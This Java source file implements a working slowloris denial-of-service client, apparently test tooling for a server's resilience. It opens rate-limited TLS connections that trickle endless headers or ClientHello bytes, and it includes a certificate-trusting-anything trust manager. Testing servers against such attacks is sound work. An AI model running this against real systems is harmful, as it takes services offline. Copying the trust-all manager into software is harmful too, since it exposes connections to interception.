package io.pqrstuv.operation.http.attack;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicLong;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * A slowloris attack, as slowhttptest runs it: up to {@code clients} connections, opened at most
 * {@code connectsPerSecond}, each trickling one byte every {@code interval} (with jitter) and
 * never finishing. Two kinds of trickle:
 * <ul>
 *   <li><b>header</b>: a complete TLS 1.3 handshake, then {@code GET /info HTTP/1.1}, {@code Host}
 *       and an endless header, one byte at a time (the probe);</li>
 *   <li><b>handshake</b>: a TLS ClientHello, one byte at a time (costs the attacker no crypto).</li>
 * </ul>
 * A connection the server closes is reopened (through the same rate limit), so the attack keeps
 * its strength. Each client binds its own loopback source address, so one test can attack from one
 * address and from many. One virtual thread per client, blocking sockets.
 */
public final class SlowClients implements AutoCloseable {
    /** What to run. {@code headerShare} of the clients trickle HTTP headers, the rest ClientHellos. */
    public record Plan(int clients, List<InetAddress> sources, int connectsPerSecond, double headerShare,
                       Duration interval) {
        public Plan {
            Objects.requireNonNull(sources);
            if (clients < 1 || sources.isEmpty() || connectsPerSecond < 1 || headerShare < 0 || headerShare > 1) {
                throw new IllegalArgumentException("bad attack plan");
            }
        }
    }

    private final InetSocketAddress target;
    private final Plan plan;
    private final SSLContext tls;
    private final byte[] clientHello;
    private final List<Thread> threads = new ArrayList<>();
    private final Set<Socket> open = ConcurrentHashMap.newKeySet();
    private final AtomicLong connects = new AtomicLong();
    private final AtomicLong connectFailures = new AtomicLong();
    private final AtomicLong handshakes = new AtomicLong();
    private final AtomicLong closedByServer = new AtomicLong();
    private final Object pace = new Object();
    private long nextConnectNanos;
    private volatile boolean running = true;

    public SlowClients(InetSocketAddress target, Plan plan) throws Exception {
        this.target = target;
        this.plan = plan;
        this.tls = SSLContext.getInstance("TLSv1.3");
        tls.init(null, new TrustManager[] {new TrustAnything()}, null);
        this.clientHello = clientHello(tls);
    }

    /** Starts every client; they connect as the rate limit allows. */
    public SlowClients start() {
        nextConnectNanos = System.nanoTime();
        int headerClients = (int) Math.round(plan.clients() * plan.headerShare());
        for (int i = 0; i < plan.clients(); i++) {
            InetAddress source = plan.sources().get(i % plan.sources().size());
            boolean header = i < headerClients;
            threads.add(Thread.ofVirtual().name("slow-" + i).start(() -> run(source, header)));
        }
        return this;
    }

    /** Connections currently open on the attacker's side (the server may already have closed some). */
    public int open() {
        return open.size();
    }

    public long connects() {
        return connects.get();
    }

    public long connectFailures() {
        return connectFailures.get();
    }

    public long handshakes() {
        return handshakes.get();
    }

    public long closedByServer() {
        return closedByServer.get();
    }

    private void run(InetAddress source, boolean header) {
        while (running) {
            if (!awaitConnectSlot()) {
                return;
            }
            Socket socket = new Socket();
            try {
                open.add(socket);
                socket.bind(new InetSocketAddress(source, 0));
                socket.connect(target, 10_000);
                connects.incrementAndGet();
                if (header) {
                    trickleHeader(socket);
                } else {
                    trickleHandshake(socket);
                }
                if (running) {
                    closedByServer.incrementAndGet();
                }
            } catch (IOException e) {
                if (running) {
                    if (socket.isConnected()) {
                        closedByServer.incrementAndGet();
                    } else {
                        connectFailures.incrementAndGet();
                    }
                }
            } finally {
                open.remove(socket);
                closeQuietly(socket);
            }
        }
    }

    /** The probe: a real TLS session, a request line, then an endless header. */
    private void trickleHeader(Socket socket) throws IOException {
        socket.setSoTimeout(10_000);
        SSLSocket ssl = (SSLSocket) tls.getSocketFactory().createSocket(socket, target.getHostString(), target.getPort(), true);
        try {
            ssl.startHandshake();
            handshakes.incrementAndGet();
            OutputStream out = ssl.getOutputStream();
            out.write("GET /info HTTP/1.1\r\nHost: device\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII));
            out.flush();
            InputStream in = ssl.getInputStream();
            while (running) {
                if (closedWhileWaiting(ssl, in)) {
                    return;
                }
                out.write('a');
                out.flush();
            }
        } finally {
            closeQuietly(ssl);
        }
    }

    /** A ClientHello one byte at a time; after it, silence (the handshake never completes). */
    private void trickleHandshake(Socket socket) throws IOException {
        OutputStream out = socket.getOutputStream();
        InputStream in = socket.getInputStream();
        int next = 0;
        while (running) {
            if (closedWhileWaiting(socket, in)) {
                return;
            }
            if (next < clientHello.length) {
                out.write(clientHello[next++]);
                out.flush();
            }
        }
    }

    /**
     * Waits one trickle interval (with ±50 % jitter) by reading: true if the server closed the
     * connection meanwhile. What the server sends (its handshake) is read and ignored.
     */
    private boolean closedWhileWaiting(Socket socket, InputStream in) throws IOException {
        long millis = plan.interval().toMillis();
        long wait = Math.max(1, millis / 2 + ThreadLocalRandom.current().nextLong(Math.max(1, millis)));
        long until = System.nanoTime() + wait * 1_000_000;
        byte[] sink = new byte[4096];
        while (running) {
            long left = (until - System.nanoTime()) / 1_000_000;
            if (left <= 0) {
                return false;
            }
            socket.setSoTimeout((int) Math.max(1, left));
            try {
                if (in.read(sink) < 0) {
                    return true;
                }
            } catch (SocketTimeoutException e) {
                return false;
            }
        }
        return true;
    }

    /** The shared rate limit: false when the attack stops while waiting. */
    private boolean awaitConnectSlot() {
        long slot;
        synchronized (pace) {
            long now = System.nanoTime();
            nextConnectNanos = Math.max(nextConnectNanos, now - 1_000_000_000L); // at most 1 s of burst
            slot = nextConnectNanos;
            nextConnectNanos += 1_000_000_000L / plan.connectsPerSecond();
        }
        long wait = slot - System.nanoTime();
        try {
            while (running && wait > 0) {
                Thread.sleep(Duration.ofNanos(Math.min(wait, 200_000_000L)));
                wait = slot - System.nanoTime();
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return false;
        }
        return running;
    }

    /** Stops the attack: every connection is closed by the attacker. */
    @Override
    public void close() throws InterruptedException {
        running = false;
        for (Socket s : open) {
            closeQuietly(s);
        }
        for (Thread t : threads) {
            t.join(Duration.ofSeconds(15));
        }
    }

    private static void closeQuietly(Socket s) {
        try {
            s.close();
        } catch (IOException ignored) {
            // closing anyway
        }
    }

    /** A real TLS 1.3 ClientHello record, as a JSSE client would send it. */
    private static byte[] clientHello(SSLContext tls) throws Exception {
        SSLEngine engine = tls.createSSLEngine("device", 443);
        engine.setUseClientMode(true);
        ByteBuffer out = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
        engine.beginHandshake();
        engine.wrap(ByteBuffer.allocate(0), out);
        out.flip();
        byte[] hello = new byte[out.remaining()];
        out.get(hello);
        return hello;
    }

    /** The attacker does not care whom it talks to. */
    private static final class TrustAnything implements X509TrustManager {
        @Override
        public void checkClientTrusted(X509Certificate[] chain, String authType) {
        }

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String authType) {
        }

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }
}
